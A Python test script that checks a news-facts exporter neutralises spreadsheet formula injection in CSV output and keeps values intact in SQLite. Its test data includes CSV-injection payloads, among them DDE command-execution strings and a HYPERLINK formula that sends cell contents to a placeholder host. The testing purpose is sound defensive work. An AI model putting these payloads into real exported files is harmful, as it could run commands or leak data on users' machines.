#!/usr/bin/env python3
"""`newsfacts export` through the program: every fact arrives in CSV and SQLite, formulas are words.

usage: export_command_test.py PROGRAM SOURCE_DIR
"""
import csv, json, os, sqlite3, subprocess, sys, tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from checks import finish, same  # noqa: E402

PROGRAM, SOURCE = sys.argv[1:3]


def run(*args):
    p = subprocess.run([PROGRAM, *args], capture_output=True, text=True)
    return p.returncode, p.stderr


with tempfile.TemporaryDirectory() as folder:
    facts = os.path.join(folder, "facts.jsonl")
    same("run", run("run", os.path.join(SOURCE, "corpus"), "-o", facts)[0], 0)
    records = [json.loads(line) for line in open(facts, encoding="utf-8")]
    hostile = dict(next(r for r in records if r["fact"] == "quote"), id="00000000000000ff", speaker="=1+1",
                   text='"@SUM(A1)", he said;\nnext line')
    with open(facts, "a", encoding="utf-8") as f:
        f.write(json.dumps(hostile) + "\n")
    records.append(hostile)
    # Whatever a spreadsheet would run, in every column of text.
    formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")", "-2+3+cmd|' /C calc'!A0",
                "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]
    words = ["1=1", "a-b", "'=1", " =1+1", "\"=1+1\"", ""]
    with open(facts, "a", encoding="utf-8") as f:
        for number, text in enumerate(formulas + words):
            row = dict(hostile, id="%016x" % (256 + number), doc=text, url=text, published=text, rule=text,
                       speaker=text, text=text, evidence=[dict(e, text=text, rule=text) for e in hostile["evidence"]])
            f.write(json.dumps(row) + "\n")
            records.append(row)

    tables = os.path.join(folder, "tables")
    same("csv", run("export", facts, "-o", tables)[0], 0)
    names = {"deal": "deals", "person": "people", "date": "dates", "figure": "figures", "quote": "quotes"}
    read = {name: list(csv.DictReader(open(os.path.join(tables, name + ".csv"), encoding="utf-8", newline="")))
            for name in list(names.values()) + ["deal_parties", "evidence"]}
    safe = lambda text: "'" + text if text in formulas else text
    for kind, table in names.items():
        want = [(safe(r["doc"]), r["id"], safe(r["rule"])) for r in records if r["fact"] == kind]
        same("rows of " + table, [(row["doc"], row["id"], row["rule"]) for row in read[table]], want)
    same("parties", [(row["id"], row["name"]) for row in read["deal_parties"]],
          [(r["id"], p["name"]) for r in records if r["fact"] == "deal" for p in r["parties"]])
    same("evidence", len(read["evidence"]), sum(len(r["evidence"]) for r in records))
    same("amounts", [float(row["amount"]) for row in read["deals"] if row["amount"]],
          [r["amount"]["value"] for r in records if r["fact"] == "deal" and r["amount"]])
    rows = {row["id"]: row for row in read["quotes"]}
    same("a formula is a word", rows[hostile["id"]]["speaker"], "'=1+1")
    same("quotes and line ends", rows[hostile["id"]]["text"], hostile["text"])
    for number, text in enumerate(formulas + words):
        row = rows["%016x" % (256 + number)]
        for column in ("doc", "url", "published", "rule", "speaker", "text"):
            same(f"{text!r} in {column}", row[column], safe(text))
    for row in read["evidence"]:
        same("formulas in evidence", [row[c] for c in row if row[c] in formulas], [])
    same("nothing is left half written", [n for n in os.listdir(tables) if n.endswith(".part")], [])

    database = os.path.join(folder, "facts.db")
    same("sqlite", run("export", "--to", "sqlite", facts, "-o", database)[0], 0)
    db = sqlite3.connect(database)
    for kind, table in names.items():
        same("rows of %s in the database" % table, db.execute("select count(*) from " + table).fetchone()[0],
              sum(r["fact"] == kind for r in records))
    same("a formula stays in a database", db.execute("select speaker from quotes where id = ?",
                                                      (hostile["id"],)).fetchone()[0], "=1+1")
    same("numbers are numbers", db.execute("select distinct typeof(value) from figures where value is not null")
          .fetchall(), [("real",)])
    db.close()

    open(facts, "a").write("{broken\n")
    same("a broken line", run("export", facts, "-o", tables)[0], 3)
    same("no output named", run("export", facts)[0], 2)
    same("an unknown format", run("export", "--to", "xls", facts, "-o", tables)[0], 2)
    same("no such file", run("export", os.path.join(folder, "none"), "-o", tables)[0], 1)
    same("no such folder", run("export", "--to", "sqlite", facts, "-o", os.path.join(folder, "none", "x.db"))[0], 4)

finish()
